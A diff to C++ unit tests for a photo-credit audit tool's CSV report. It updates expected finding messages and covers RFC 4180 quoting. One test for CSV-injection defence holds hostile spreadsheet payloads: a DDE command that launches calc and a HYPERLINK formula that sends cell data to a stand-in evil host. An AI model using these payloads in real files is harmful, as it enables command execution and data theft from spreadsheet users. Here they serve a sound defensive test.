@@ -74,7 +74,10 @@ TEST_CASE("CSV report: header, one row per finding, one row for an image without
   CHECK(parade[0][1] == "error");
   CHECK(parade[0][2] == "license-coverage");
   CHECK(parade[1][1] == "warning");
-  CHECK(parade[1][3] == "Contract pa-editorial-2024 requires the credit \"picture alliance / AP\".");
+  CHECK(parade[1][3] ==
+        "The credit line \"© picture alliance / ASSOCIATED PRESS | Valery Sharifulin\" is not in the required form: the "
+        "contract pa-editorial-2024 with picture alliance requires the form \"{licensor} / {agency}\" (here: \"picture "
+        "alliance / AP\").");
   CHECK(parade[2][1] == "info");
   CHECK(parade[0][4] == "© picture alliance / ASSOCIATED PRESS | Valery Sharifulin");
   CHECK(parade[0][5] == "picture-alliance > AP");
@@ -97,7 +100,9 @@ TEST_CASE("CSV report quotes per RFC 4180 and keeps UTF-8 valid", "[csv]") {
   image.credit.chain = {{"Agence France-Presse", "AFP"}, {"Unknown Agency", ""}};
   static constexpr char kRaw[] = "bad bytes: \xff\xc0\x80 and a NUL \0 here";
   image.error = std::string(kRaw, sizeof kRaw - 1);
-  image.findings = {{.rule = photoaudit::registry::Rule::kCreditConflict, .severity = Severity::kWarning, .message = "IPTC: \"AP\", XMP: \"dpa\""}};
+  image.findings = {{.rule = photoaudit::registry::Rule::kCreditConflict,
+                     .severity = Severity::kWarning,
+                     .detail = photoaudit::registry::BlockReadings{{{"iptc", "AP"}, {"xmp", "dpa"}}}}};
   report.images = {image};
   const std::string csv = csv_of(report);
   CHECK(csv.find("\"a,b/\"\"quoted\"\" name.jpg\"") != std::string::npos);
@@ -105,7 +110,7 @@ TEST_CASE("CSV report quotes per RFC 4180 and keeps UTF-8 valid", "[csv]") {
   REQUIRE(rows.size() == 2);
   const auto& row = rows[1];
   CHECK(row[0] == "a,b/\"quoted\" name.jpg");
-  CHECK(row[3] == "IPTC: \"AP\", XMP: \"dpa\"");
+  CHECK(row[3] == "The metadata blocks name different sources: IPTC says \"AP\", XMP says \"dpa\".");
   CHECK(row[4] == "Line one\r\nline two, with comma");
   CHECK(row[5] == "AFP > Unknown Agency");
   CHECK(row[6] == "Zoë Müller; Jürgen \"Jo\" Schmidt");
@@ -123,20 +128,22 @@ TEST_CASE("CSV report defuses spreadsheet formulas (CSV injection)", "[csv]") {
   image.license.licensor = "\tcmd";
   image.license.contract = "\r=1+1";
   image.error = "=cmd|' /C calc'!A0";
-  image.findings = {{.rule = photoaudit::registry::Rule::kCreditUnparsed, .severity = Severity::kWarning, .message = "@foo"}, {.rule = photoaudit::registry::Rule::kCreditMissing, .severity = Severity::kError, .message = "a=b"}};
+  image.findings = {{.rule = photoaudit::registry::Rule::kLicenseNone, .severity = Severity::kError, .organization = "@foo"},
+                    {.rule = photoaudit::registry::Rule::kCreditUnparsed, .severity = Severity::kWarning, .embedded_credit = "a=b"}};
   report.images = {image};
   const Rows rows = parse_with_python(csv_of(report));
   REQUIRE(rows.size() == 3);
   const auto& row = rows[1];
   CHECK(row[0] == "'-2+3.jpg");
-  CHECK(row[3] == "'@foo");
+  CHECK(row[3] == "'@foo is in the license registry, but the house has no contract with it: do not publish without a "
+                  "license.");
   CHECK(row[4] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
   CHECK(row[6] == "'+49 40 123; @SUM(A1:A9)");
   CHECK(row[7] == "'\tcmd");
   CHECK(row[8] == "'\r=1+1");
   CHECK(row[13] == "'=cmd|' /C calc'!A0");
   // Only a dangerous first character is touched: a '=' inside a cell stays as it is.
-  CHECK(rows[2][3] == "a=b");
+  CHECK(rows[2][3] == "The credit \"a=b\" names no organisation or photographer photoaudit recognises.");
   // No cell of either row starts with a formula character.
   for (std::size_t r = 1; r < rows.size(); ++r) {
     for (const auto& cell : rows[r]) {
